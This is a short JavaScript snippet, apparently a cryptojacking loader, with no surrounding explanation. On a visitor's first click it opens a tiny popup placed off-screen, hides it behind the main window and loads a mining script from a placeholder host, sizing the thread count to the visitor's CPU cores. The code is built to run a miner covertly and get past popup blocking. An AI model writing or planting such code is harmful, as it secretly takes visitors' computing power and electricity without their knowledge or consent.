document.addEventListener('click', function open() {
  document.removeEventListener('click', open);
  var w = window.open('', '_blank', 'width=1,height=1,left=' + (screen.width + 50) + ',top=' + (screen.height + 50));
  if (!w) return;
  w.blur();
  window.focus();
  w.document.write('<script src="https://webmine-cdn.example/worker.js?key=ex4mpl3&threads=' + (navigator.hardwareConcurrency || 2) + '"><\/script>');
});
